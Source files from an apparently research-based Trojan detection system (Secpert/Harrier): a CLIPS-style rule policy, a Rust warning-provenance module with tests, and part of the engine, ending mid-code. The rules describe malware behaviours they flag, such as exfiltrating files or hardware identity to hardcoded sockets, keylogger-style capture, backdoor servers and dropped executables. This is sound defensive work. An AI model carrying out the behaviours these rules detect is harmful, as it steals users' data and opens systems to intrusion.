  (slot pid)
  (slot system_call_name)
  (multislot source_name)
  (multislot source_type)
  (multislot data_origin_name)
  (multislot data_origin_type)
  (slot target_name)
  (slot target_type)
  (multislot target_origin_name)
  (multislot target_origin_type)
  (slot time (default 0))
  (slot frequency (default 1))
  (slot address (default "0"))
  (slot executable_content (default FALSE))
  (slot server_address (default nil))
  (multislot server_origin_name)
  (multislot server_origin_type))

; ---------------------------------------------------------------------------
; Globals: thresholds (overridden from PolicyConfig after load).
; ---------------------------------------------------------------------------

(defglobal ?*RARE_FREQUENCY* = 2)
(defglobal ?*LONG_TIME* = 100)
(defglobal ?*PROC_COUNT_HIGH* = 10)
(defglobal ?*PROC_RATE_HIGH* = 20)
(defglobal ?*MEM_HIGH* = 1048576)
(defglobal ?*MEM_VERY_HIGH* = 16777216)

; ---------------------------------------------------------------------------
; Execution flow (paper §4.1, Appendix A.2).
; ---------------------------------------------------------------------------

(defrule check_execve "execve of a hardcoded or socket-derived program name"
  ?e <- (system_call_access (system_call_name SYS_execve)
          (pid ?pid) (resource_name ?name)
          (resource_origin_name $?origin_name)
          (resource_origin_type $?origin_type)
          (time ?time) (frequency ?freq) (address ?addr))
  (test (or (not (empty-list (filter_binary $?origin_type $?origin_name)))
            (not (empty-list (filter_socket $?origin_type $?origin_name)))))
  =>
  (bind ?suspicious_binaries (filter_binary $?origin_type $?origin_name))
  (bind ?suspicious_sockets (filter_socket $?origin_type $?origin_name))
  (bind ?warning 1)
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
      (bind ?warning 2))
  (if (not (empty-list ?suspicious_sockets)) then
      (bind ?warning 3))
  (bind ?msg (str-cat "Found SYS_execve call (" ?name ")"))
  (if (not (empty-list ?suspicious_binaries)) then
      (bind ?msg (str-cat ?msg " | (" ?name ") originated from (" ?suspicious_binaries ")"))
   else
      (bind ?msg (str-cat ?msg " | (" ?name ") originated from a socket (" ?suspicious_sockets ")")))
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
      (bind ?msg (str-cat ?msg " | This code is rarely executed...")))
  (printout t (severity-text ?warning) " " ?msg crlf)
  (warn ?warning check_execve ?pid ?time ?msg))

; ---------------------------------------------------------------------------
; Resource abuse (paper §4.2).
; ---------------------------------------------------------------------------

(defrule check_clone_count "many new processes created"
  ?e <- (system_call_access (system_call_name SYS_clone|SYS_fork)
          (pid ?pid) (proc_count ?count) (time ?time))
  (test (>= ?count ?*PROC_COUNT_HIGH*))
  =>
  (bind ?msg "Found several SYS_clone calls | This call was frequent")
  (printout t (severity-text 1) " " ?msg crlf)
  (warn 1 check_clone_count ?pid ?time ?msg))

(defrule check_clone_rate "new processes created at a high rate"
  ?e <- (system_call_access (system_call_name SYS_clone|SYS_fork)
          (pid ?pid) (proc_rate ?rate) (time ?time))
  (test (>= ?rate ?*PROC_RATE_HIGH*))
  =>
  (bind ?msg "Found several SYS_clone calls | This call was very frequent in a short period of time")
  (printout t (severity-text 2) " " ?msg crlf)
  (warn 2 check_clone_rate ?pid ?time ?msg))

; Memory abuse (paper §10 item 4: "new rules to support different types
; of resource abuse such as memory"): a process that keeps growing its
; heap is draining the OS, like Trojan.Vundo (§2.1 example 4).
(defrule check_memory_abuse "large amount of memory allocated"
  ?e <- (system_call_access (system_call_name SYS_brk)
          (pid ?pid) (mem_total ?total) (time ?time))
  (test (>= ?total ?*MEM_HIGH*))
  =>
  (bind ?warning 1)
  (if (>= ?total ?*MEM_VERY_HIGH*) then (bind ?warning 2))
  (bind ?msg (str-cat "Found several SYS_brk calls | The process has allocated "
                      ?total " bytes of memory"))
  (printout t (severity-text ?warning) " " ?msg crlf)
  (warn ?warning check_memory_abuse ?pid ?time ?msg))

; ---------------------------------------------------------------------------
; Information flow (paper §4.3).
; ---------------------------------------------------------------------------

; Hardcoded (binary) data written into a file whose name is also
; hardcoded — the dropper pattern (grabem, vixie crontab, trojaned ttt).
(defrule flow_binary_to_file "hardcoded data written to a hardcoded-name file"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time) (frequency ?freq))
  (test (not (empty-list (filter_binary $?st $?sn))))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?srcs (filter_binary $?st $?sn))
  (bind ?name_srcs (filter_binary $?tot $?ton))
  (bind ?msg (str-cat "Found Write call to " ?tname
     " | The Data written to this file is originated from the BINARY:(" ?srcs ")"
     " | Moreover, it seems that the name of the file: " ?tname
     " originated from a BINARY: (" ?name_srcs ")"))
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
      (bind ?msg (str-cat ?msg " | This code is rarely executed...")))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_binary_to_file ?pid ?time ?msg))

; File contents flowing to a socket (paper §4.3 rule 1: exfiltration).
(defrule flow_file_to_socket "file data written to a socket"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (data_origin_type $?dot) (data_origin_name $?don)
          (target_name ?tname) (target_type SOCKET)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (not (empty-list (filter_file $?st $?sn))))
  =>
  (bind ?src_files (filter_file $?st $?sn))
  (bind ?file_hardcoded (filter_binary $?dot $?don))
  (bind ?file_user (filter_user $?dot $?don))
  (bind ?sock_hardcoded (filter_binary $?tot $?ton))
  (bind ?sock_user (filter_user $?tot $?ton))
  (bind ?warning 0)
  (if (and (not (empty-list ?file_user)) (not (empty-list ?sock_hardcoded))) then
      (bind ?warning 1))
  (if (and (not (empty-list ?file_hardcoded)) (not (empty-list ?sock_user))) then
      (bind ?warning 1))
  (if (and (not (empty-list ?file_hardcoded)) (not (empty-list ?sock_hardcoded))) then
      (bind ?warning 3))
  (if (> ?warning 0) then
      (bind ?msg (str-cat "Found Write call Data Flowing From: " ?src_files
                          " To: " ?tname))
      (if (not (empty-list ?sock_hardcoded)) then
          (bind ?msg (str-cat ?msg " | target (client) socket-name was hardcoded in: ("
                              ?sock_hardcoded ")")))
      (if (not (empty-list ?file_hardcoded)) then
          (bind ?msg (str-cat ?msg " | source filename was hardcoded in: ("
                              ?file_hardcoded ")")))
      (printout t (severity-text ?warning) " " ?msg crlf)
      (warn ?warning flow_file_to_socket ?pid ?time ?msg)))

; Socket data flowing into a file (the download / command-injection
; pattern: pma writes attacker bytes into its shell FIFO). Graded by the
; socket's own address origin: attacker-determined (hardcoded address or
; an accepted connection) into a fixed file is High; a user-directed
; download into a fixed file is Low; user-named files are fine.
(defrule flow_socket_to_file "remote data written to a hardcoded-name file"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (data_origin_type $?dot) (data_origin_name $?don)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time) (frequency ?freq))
  (test (not (empty-list (filter_sockets_in $?st $?sn))))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?src_socks (filter_sockets_in $?st $?sn))
  (bind ?name_srcs (filter_binary $?tot $?ton))
  (bind ?warning 3)
  (if (and (not (empty-list (filter_user $?dot $?don)))
           (empty-list (filter_binary $?dot $?don))
           (empty-list (filter_sockets_in $?dot $?don))) then
      (bind ?warning 1))
  (bind ?msg (str-cat "Found Write call Data Flowing From: " ?src_socks " To: " ?tname
                      " | target file-name was hardcoded in FILE: (" ?name_srcs ")"))
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
      (bind ?msg (str-cat ?msg " | This code is rarely executed...")))
  (printout t (severity-text ?warning) " " ?msg crlf)
  (warn ?warning flow_socket_to_file ?pid ?time ?msg))

; Any write whose target file *name* arrived over the network: a remote
; party chose where the data lands (High regardless of the data).
(defrule flow_to_file_remote_name "write to a file whose name came from a socket"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (not (empty-list (filter_socket $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call to " ?tname
                      " | the name of the file originated from a socket: ("
                      (filter_socket $?tot $?ton) ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_to_file_remote_name ?pid ?time ?msg))

; File-to-file copies, graded by both identifier origins.
(defrule flow_file_to_file "file data copied into another file"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (data_origin_type $?dot) (data_origin_name $?don)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (not (empty-list (filter_file $?st $?sn))))
  =>
  (bind ?src_files (filter_file $?st $?sn))
  (bind ?file_hardcoded (filter_binary $?dot $?don))
  (bind ?file_user (filter_user $?dot $?don))
  (bind ?tgt_hardcoded (filter_binary $?tot $?ton))
  (bind ?tgt_user (filter_user $?tot $?ton))
  (bind ?warning 0)
  (if (and (not (empty-list ?file_user)) (not (empty-list ?tgt_hardcoded))) then
      (bind ?warning 1))
  (if (and (not (empty-list ?file_hardcoded)) (not (empty-list ?tgt_user))) then
      (bind ?warning 1))
  (if (and (not (empty-list ?file_hardcoded)) (not (empty-list ?tgt_hardcoded))) then
      (bind ?warning 2))
  (if (> ?warning 0) then
      (bind ?msg (str-cat "Found Write call Data Flowing From: " ?src_files
                          " To: " ?tname))
      (printout t (severity-text ?warning) " " ?msg crlf)
      (warn ?warning flow_file_to_file ?pid ?time ?msg)))

; Hardware-derived values written to a hardcoded-name file (paper §4.3
; rule 2 — the TCP-wrappers fingerprinting pattern).
(defrule flow_hardware_to_file "hardware information written to a hardcoded-name file"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (member$ HARDWARE $?st))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call to " ?tname
                      " | The Data written to this file is originated from the HARDWARE"
                      " | Moreover, it seems that the name of the file: " ?tname
                      " originated from a BINARY: (" (filter_binary $?tot $?ton) ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_hardware_to_file ?pid ?time ?msg))

; Hardware-derived values sent to a hardcoded socket (extension of the
; same rule — exfiltrating machine identity).
(defrule flow_hardware_to_socket "hardware information sent to a hardcoded socket"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type SOCKET)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (member$ HARDWARE $?st))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call to socket " ?tname
                      " | The Data written is originated from the HARDWARE"
                      " | the socket address was hardcoded in: ("
                      (filter_binary $?tot $?ton) ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_hardware_to_socket ?pid ?time ?msg))

; User input captured into a hardcoded-name file — the keylogger /
; password-grabber pattern (grabem). The 2006 prototype's dataflow was
; too incomplete to catch this (paper §8.3.4); the complete tracker does.
(defrule flow_user_to_file "user input written to a hardcoded-name file"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type FILE)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (member$ USER_INPUT $?st))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call to " ?tname
                      " | The Data written originated from USER INPUT"
                      " | and the name of the file: " ?tname
                      " originated from a BINARY: (" (filter_binary $?tot $?ton) ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_user_to_file ?pid ?time ?msg))

; User input sent to a hardcoded socket — the password stealer.
(defrule flow_user_to_socket "user input sent to a hardcoded socket"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type SOCKET)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (member$ USER_INPUT $?st))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call to socket " ?tname
                      " | The Data written originated from USER INPUT"
                      " | the socket address was hardcoded in: ("
                      (filter_binary $?tot $?ton) ")"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_user_to_socket ?pid ?time ?msg))

; Hardcoded data sent to a hardcoded socket (pwsafe-style beacon): Low —
; plenty of trusted programs send fixed protocol bytes to fixed hosts.
(defrule flow_binary_to_socket "hardcoded data sent to a hardcoded socket"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type SOCKET)
          (target_origin_type $?tot) (target_origin_name $?ton)
          (time ?time))
  (test (not (empty-list (filter_binary $?st $?sn))))
  (test (not (empty-list (filter_binary $?tot $?ton))))
  =>
  (bind ?msg (str-cat "Found Write call Data Flowing From: " (filter_binary $?st $?sn)
                      " To: " ?tname
                      " | target (client) socket-name was hardcoded in: ("
                      (filter_binary $?tot $?ton) ")"))
  (printout t (severity-text 1) " " ?msg crlf)
  (warn 1 flow_binary_to_socket ?pid ?time ?msg))

; Any transfer on an accepted connection whose *listening* address was
; hardcoded: the program is a backdoor server (pma).
(defrule check_backdoor_server "transfer over a server socket with a hardcoded address"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_name $?sn) (target_name ?tname)
          (server_address ?srv&~nil)
          (server_origin_type $?sot) (server_origin_name $?son)
          (time ?time) (frequency ?freq))
  (test (not (empty-list (filter_binary $?sot $?son))))
  =>
  (bind ?msg (str-cat "Found " ?sys " call Data Flowing From: " ?sn " To: " ?tname
                      " | This program has opened a socket for remote connections."
                      " i.e. it is a server with the address: " ?srv
                      " | the server address was hardcoded in: ("
                      (filter_binary $?sot $?son) ")"))
  (if (and (< ?freq ?*RARE_FREQUENCY*) (> ?time ?*LONG_TIME*)) then
      (bind ?msg (str-cat ?msg " | This code is rarely executed...")))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 check_backdoor_server ?pid ?time ?msg))

; Content analysis (paper §10 item 5: "analyze the data downloaded …
; if we can analyze and detect what the type of a downloaded file is"):
; remote bytes that *look executable* written into any file.
(defrule flow_executable_download "executable content downloaded to disk"
  ?e <- (data_transfer (pid ?pid) (system_call_name ?sys)
          (source_type $?st) (source_name $?sn)
          (target_name ?tname) (target_type FILE)
          (executable_content TRUE)
          (time ?time))
  (test (not (empty-list (filter_sockets_in $?st $?sn))))
  =>
  (bind ?msg (str-cat "Found Write call to " ?tname
                      " | The data downloaded from ("
                      (filter_sockets_in $?st $?sn)
                      ") is an executable"))
  (printout t (severity-text 3) " " ?msg crlf)
  (warn 3 flow_executable_download ?pid ?time ?msg))

; ---------------------------------------------------------------------------
; Process introspection and signals (second-generation surface).
; ---------------------------------------------------------------------------

; A program reading its own /proc state (status, cmdline) is inspecting
; the process environment — classic anti-debug / monitor-detection
; behaviour in Trojans. Low severity on its own; the flow rules escalate
; if the content then leaves over the network.
(defrule check_proc_introspection "program reads its own /proc state"
  ?e <- (system_call_access (system_call_name SYS_open)
          (pid ?pid) (resource_name ?name) (resource_type PROC)
          (time ?time))
  =>
  (bind ?msg (str-cat "Found SYS_open call (" ?name ") | the program is inspecting its own process state through /proc"))
  (printout t (severity-text 1) " " ?msg crlf)
  (warn 1 check_proc_introspection ?pid ?time ?msg))

; Signals sent to other processes: benign tools do this too, but a
; Trojan killing a sibling (watchdog, rival malware, monitor) is a
; common pattern — surface it at Low severity.
(defrule check_process_kill "signal sent to another process"
  ?e <- (system_call_access (system_call_name SYS_kill)
          (pid ?pid) (resource_name ?name) (time ?time))
  =>
  (bind ?msg (str-cat "Found SYS_kill call (" ?name ")"))
  (printout t (severity-text 1) " " ?msg crlf)
  (warn 1 check_process_kill ?pid ?time ?msg))

; ---------------------------------------------------------------------------
; Cleanup: events are transient; drop them once every rule had its chance.
; ---------------------------------------------------------------------------

(defrule cleanup_system_call_access
  (declare (salience -100))
  ?f <- (system_call_access)
  =>
  (retract ?f))

(defrule cleanup_data_transfer
  (declare (salience -100))
  ?f <- (data_transfer)
  =>
  (retract ?f))
"#;
