//! Warning provenance: the causal story behind each warning.
//!
//! The paper's central claim for using an expert system (§6.2.1) is
//! explainability — Secpert "can give the user all of the information
//! that was used to reach its conclusion". This module makes that
//! information a first-class artifact: every [`Warning`](crate::Warning)
//! carries an optional [`Provenance`] recording the triggering event,
//! the rule-firing chain that led to the `warn`, the supporting facts
//! (with the *other* rules whose live matches were consuming them,
//! straight from the match network's fact → token back-references), and
//! the taint-source set of the data involved.
//!
//! [`Provenance::render_tree`] prints it as a causal tree, which the
//! CLI surfaces as `hth explain <journal> <warning-idx>`.

use std::fmt::Write as _;

use crate::warning::Warning;

/// One fact that supported the warning's activation, snapshotted at
/// fire time (the RHS may have retracted it since).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FactSupport {
    /// Raw working-memory id (rendered `f-<id>`).
    pub id: u64,
    /// Rendered fact, as it looked when the rule fired.
    pub fact: String,
    /// Other rules whose live (partial or complete) matches were also
    /// consuming this fact at fire time. Empty under the naive matcher,
    /// which keeps no match memory.
    pub co_rules: Vec<String>,
}

/// Everything Secpert knew when it issued one warning.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Provenance {
    /// 1-based index of the triggering event in the expert's event
    /// stream — on a journal replay, the journal frame number.
    pub event_index: u64,
    /// Syscall of the triggering event.
    pub syscall: String,
    /// Engine-lifetime sequence number of the firing whose RHS called
    /// `warn`.
    pub firing_seq: u64,
    /// Rules fired while processing the event, in firing order, up to
    /// and including the warning's own rule.
    pub rule_chain: Vec<String>,
    /// The facts matched by the warning rule's positive patterns.
    pub support: Vec<FactSupport>,
    /// Taint-source set of the event's data/resource origins, rendered
    /// `KIND(name)`.
    pub taint_sources: Vec<String>,
}

impl Provenance {
    /// Renders the causal tree for `warning` (which normally owns this
    /// provenance). Output shape:
    ///
    /// ```text
    /// [HIGH] check_backdoor_server (pid 1, t=10): …message…
    /// └─ firing #12 on event #7 (SYS_write)
    ///    ├─ taint sources: BINARY(pmad), SOCKET(gateway:36982 (AF_INET))
    ///    ├─ rule chain: flow_binary_to_file -> check_backdoor_server
    ///    ├─ f-42 (data_transfer (pid 1) …)
    ///    │  └─ also matching: flow_file_to_socket
    ///    └─ f-43 (taint …)
    /// ```
    pub fn render_tree(&self, warning: &Warning) -> String {
        let mut out = String::new();
        let _ = writeln!(
            out,
            "[{}] {} (pid {}, t={}): {}",
            warning.severity, warning.rule, warning.pid, warning.time, warning.message
        );
        let _ = writeln!(
            out,
            "└─ firing #{} on event #{} ({})",
            self.firing_seq, self.event_index, self.syscall
        );
        let mut branches: Vec<(String, Vec<String>)> = Vec::new();
        if !self.taint_sources.is_empty() {
            branches
                .push((format!("taint sources: {}", self.taint_sources.join(", ")), Vec::new()));
        }
        if !self.rule_chain.is_empty() {
            branches.push((format!("rule chain: {}", self.rule_chain.join(" -> ")), Vec::new()));
        }
        for fact in &self.support {
            let children = if fact.co_rules.is_empty() {
                Vec::new()
            } else {
                vec![format!("also matching: {}", fact.co_rules.join(", "))]
            };
            branches.push((format!("f-{} {}", fact.id, fact.fact), children));
        }
        for (i, (line, children)) in branches.iter().enumerate() {
            let last = i + 1 == branches.len();
            let (tee, bar) = if last { ("└─", "   ") } else { ("├─", "│  ") };
            let _ = writeln!(out, "   {tee} {line}");
            for (j, child) in children.iter().enumerate() {
                let ctee = if j + 1 == children.len() { "└─" } else { "├─" };
                let _ = writeln!(out, "   {bar}{ctee} {child}");
            }
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::warning::Severity;

    #[test]
    fn tree_renders_all_branches() {
        let warning = Warning {
            severity: Severity::High,
            rule: "check_backdoor_server".into(),
            pid: 1,
            time: 10,
            message: "backdoor".into(),
            provenance: None,
        };
        let prov = Provenance {
            event_index: 7,
            syscall: "SYS_write".into(),
            firing_seq: 12,
            rule_chain: vec!["flow_binary_to_file".into(), "check_backdoor_server".into()],
            support: vec![
                FactSupport {
                    id: 42,
                    fact: "(data_transfer (pid 1))".into(),
                    co_rules: vec!["flow_file_to_socket".into()],
                },
                FactSupport { id: 43, fact: "(taint)".into(), co_rules: Vec::new() },
            ],
            taint_sources: vec!["BINARY(pmad)".into()],
        };
        let tree = prov.render_tree(&warning);
        let lines: Vec<&str> = tree.lines().collect();
        assert_eq!(lines[0], "[HIGH] check_backdoor_server (pid 1, t=10): backdoor");
        assert_eq!(lines[1], "└─ firing #12 on event #7 (SYS_write)");
        assert_eq!(lines[2], "   ├─ taint sources: BINARY(pmad)");
        assert_eq!(lines[3], "   ├─ rule chain: flow_binary_to_file -> check_backdoor_server");
        assert_eq!(lines[4], "   ├─ f-42 (data_transfer (pid 1))");
        assert_eq!(lines[5], "   │  └─ also matching: flow_file_to_socket");
        assert_eq!(lines[6], "   └─ f-43 (taint)");
        assert_eq!(lines.len(), 7);
    }

    #[test]
    fn empty_branches_are_omitted() {
        let warning = Warning {
            severity: Severity::Low,
            rule: "r".into(),
            pid: 2,
            time: 3,
            message: "m".into(),
            provenance: None,
        };
        let prov = Provenance {
            event_index: 1,
            syscall: "SYS_open".into(),
            firing_seq: 1,
            rule_chain: vec!["r".into()],
            support: Vec::new(),
            taint_sources: Vec::new(),
        };
        let tree = prov.render_tree(&warning);
        assert!(tree.contains("└─ rule chain: r"), "{tree}");
        assert!(!tree.contains("taint sources"), "{tree}");
    }
}
