//! Secpert: the security expert (paper §6) — the policy loaded into the
//! CLIPS-like engine, the native filter functions, and the event
//! protocol between Harrier and the rules.

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use harrier::{Origin, SecpertEvent, SourceInfo};
use secpert_engine::snapshot::{self, ByteReader, EngineSnapshot, SnapshotError};
use secpert_engine::{AlphaPrefilter, Engine, EngineError, Fact, FactBuilder, MatchStats, Value};

use crate::policy::{PolicyConfig, POLICY_CLIPS};
use crate::provenance::{FactSupport, Provenance};
use crate::warning::{Severity, Warning};

/// Leading magic of a serialized [`Secpert::snapshot`].
const SNAPSHOT_MAGIC: &[u8; 4] = b"HTHS";
/// Snapshot format version; bumped on any layout change so an old
/// server never misreads a new snapshot (and vice versa).
const SNAPSHOT_VERSION: u8 = 1;

/// The security expert system: policy + engine + warning collection.
///
/// Warnings are stored behind `Arc` so readers can snapshot the sink
/// under the lock with cheap pointer clones and deep-copy outside it —
/// the `warn` native (called mid-inference) never contends with a
/// reader doing per-warning string clones.
pub struct Secpert {
    engine: Engine,
    warnings: Arc<Mutex<Vec<Arc<Warning>>>>,
    events_processed: u64,
    gate: EventGate,
    values: ValueCache,
}

/// What an event field means when the alpha pre-filter asks about a
/// slot by index. Built once per template from the slot names, so the
/// gate evaluates rule constants straight off the [`SecpertEvent`]
/// without constructing the fact.
#[derive(Clone, Copy, Debug)]
enum SlotSem {
    Pid,
    Syscall,
    ResourceName,
    ResourceType,
    TargetName,
    TargetType,
    ExecutableContent,
    Time,
    Frequency,
    Address,
    ProcCount,
    ProcRate,
    MemTotal,
    ServerAddress,
    /// Multislots and unrecognized slots: the gate cannot decide, so it
    /// conservatively reports "could be equal" (never skips on these).
    Opaque,
}

/// Per-template half of the event gate.
#[derive(Debug)]
struct TemplateGate {
    /// Some CE accepts every fact of this template (the standard
    /// policy's cleanup catch-alls) — admit without looking at slots.
    always: bool,
    /// No rule mentions the template — skip without looking at slots.
    never: bool,
    /// Slot index → event-field meaning.
    sems: Vec<SlotSem>,
    /// Value `server_address` takes when the event carries no server
    /// context (the template default the fact would have been built
    /// with).
    server_default: Value,
}

/// The event-level alpha pre-filter: [`AlphaPrefilter`] plus the
/// slot-index → event-field mapping for the two event templates.
/// Snapshot of the rule base at `revision`; rebuilt when
/// [`Engine::rules_revision`] moves (e.g. [`Secpert::load_policy`]).
#[derive(Debug)]
struct EventGate {
    revision: u64,
    filter: AlphaPrefilter,
    access: TemplateGate,
    transfer: TemplateGate,
}

impl EventGate {
    fn build(engine: &Engine) -> EventGate {
        let filter = engine.alpha_prefilter();
        let gate_for = |name: &str| -> TemplateGate {
            let (sems, server_default) = match engine.template(name) {
                Some(t) => {
                    let sems = t
                        .slots()
                        .iter()
                        .map(|s| match s.name() {
                            "pid" => SlotSem::Pid,
                            "system_call_name" => SlotSem::Syscall,
                            "resource_name" => SlotSem::ResourceName,
                            "resource_type" => SlotSem::ResourceType,
                            "target_name" => SlotSem::TargetName,
                            "target_type" => SlotSem::TargetType,
                            "executable_content" => SlotSem::ExecutableContent,
                            "time" => SlotSem::Time,
                            "frequency" => SlotSem::Frequency,
                            "address" => SlotSem::Address,
                            "proc_count" => SlotSem::ProcCount,
                            "proc_rate" => SlotSem::ProcRate,
                            "mem_total" => SlotSem::MemTotal,
                            "server_address" => SlotSem::ServerAddress,
                            _ => SlotSem::Opaque,
                        })
                        .collect();
                    let server_default = t
                        .slots()
                        .iter()
                        .find(|s| s.name() == "server_address")
                        .map(|s| s.default().cloned().unwrap_or_else(|| s.implicit_default()))
                        .unwrap_or_else(|| Value::sym("nil"));
                    (sems, server_default)
                }
                None => (Vec::new(), Value::sym("nil")),
            };
            TemplateGate {
                always: filter.always_passes(name),
                never: filter.never_matches(name),
                sems,
                server_default,
            }
        };
        let access = gate_for("system_call_access");
        let transfer = gate_for("data_transfer");
        EventGate { revision: engine.rules_revision(), filter, access, transfer }
    }

    /// Could this event's fact begin a match anywhere in the rule base?
    /// Exactly [`AlphaPrefilter::can_match`] evaluated off the event.
    fn admits(&self, event: &SecpertEvent) -> bool {
        let (gate, template) = match event {
            SecpertEvent::ResourceAccess { .. } => (&self.access, "system_call_access"),
            SecpertEvent::DataTransfer { .. } => (&self.transfer, "data_transfer"),
        };
        if gate.always {
            return true;
        }
        if gate.never {
            return false;
        }
        self.filter.can_match(template, |slot, lit| {
            let sem = gate.sems.get(slot).copied().unwrap_or(SlotSem::Opaque);
            slot_admits(sem, &gate.server_default, event, lit)
        })
    }
}

/// Would the fact built from `event` carry `lit` in the slot meaning
/// `sem`? Mirrors `event_to_fact` exactly; anything it cannot decide
/// answers `true` (conservative: never skips what might match).
fn slot_admits(sem: SlotSem, server_default: &Value, event: &SecpertEvent, lit: &Value) -> bool {
    use SecpertEvent::{DataTransfer, ResourceAccess};

    fn int_eq(lit: &Value, n: i64) -> bool {
        matches!(lit, Value::Int(i) if *i == n)
    }
    fn str_eq(lit: &Value, s: &str) -> bool {
        matches!(lit, Value::Str(v) if &**v == s)
    }
    /// `lit == Value::str(format!("{addr:x}"))` without rendering.
    fn hex_eq(lit: &Value, addr: u32) -> bool {
        let Value::Str(s) = lit else { return false };
        let mut buf = [0u8; 8];
        let mut i = buf.len();
        let mut v = addr;
        loop {
            i -= 1;
            buf[i] = char::from_digit(v % 16, 16).unwrap_or('0') as u8;
            v /= 16;
            if v == 0 {
                break;
            }
        }
        s.as_bytes() == &buf[i..]
    }

    let (pid, syscall, time, frequency, address, server) = match event {
        ResourceAccess { pid, syscall, time, frequency, address, server, .. }
        | DataTransfer { pid, syscall, time, frequency, address, server, .. } => {
            (*pid, *syscall, *time, *frequency, *address, server)
        }
    };
    match sem {
        SlotSem::Pid => int_eq(lit, i64::from(pid)),
        SlotSem::Syscall => lit.is_sym(syscall),
        SlotSem::Time => int_eq(lit, time as i64),
        SlotSem::Frequency => int_eq(lit, frequency as i64),
        SlotSem::Address => hex_eq(lit, address),
        SlotSem::ServerAddress => match server {
            Some(s) => str_eq(lit, &s.address),
            None => lit == server_default,
        },
        SlotSem::ResourceName => match event {
            ResourceAccess { resource, .. } => str_eq(lit, &resource.name),
            DataTransfer { .. } => true,
        },
        SlotSem::ResourceType => match event {
            ResourceAccess { resource, .. } => lit.is_sym(resource.kind.symbol()),
            DataTransfer { .. } => true,
        },
        SlotSem::ProcCount => match event {
            ResourceAccess { proc_count, .. } => int_eq(lit, proc_count.unwrap_or(0) as i64),
            DataTransfer { .. } => true,
        },
        SlotSem::ProcRate => match event {
            ResourceAccess { proc_rate, .. } => int_eq(lit, proc_rate.unwrap_or(0) as i64),
            DataTransfer { .. } => true,
        },
        SlotSem::MemTotal => match event {
            ResourceAccess { mem_total, .. } => int_eq(lit, mem_total.unwrap_or(0) as i64),
            DataTransfer { .. } => true,
        },
        SlotSem::TargetName => match event {
            DataTransfer { target, .. } => str_eq(lit, &target.name),
            ResourceAccess { .. } => true,
        },
        SlotSem::TargetType => match event {
            DataTransfer { target, .. } => lit.is_sym(target.kind.symbol()),
            ResourceAccess { .. } => true,
        },
        SlotSem::ExecutableContent => match event {
            DataTransfer { executable_content, .. } => {
                lit.is_sym(if *executable_content { "TRUE" } else { "FALSE" })
            }
            ResourceAccess { .. } => true,
        },
        SlotSem::Opaque => true,
    }
}

/// Interned `Value`s reused across events. Event streams repeat the
/// same paths, endpoints, type symbols and code addresses over and
/// over; the cache hands back one shared `Arc<str>` per distinct
/// string instead of allocating per event.
#[derive(Debug, Default)]
struct ValueCache {
    strs: HashMap<Box<str>, Value>,
    syms: HashMap<Box<str>, Value>,
    addrs: HashMap<u32, Value>,
}

/// Growth cap: a pathological stream of all-distinct strings resets
/// the cache rather than growing it without bound.
const VALUE_CACHE_CAP: usize = 1 << 16;

impl ValueCache {
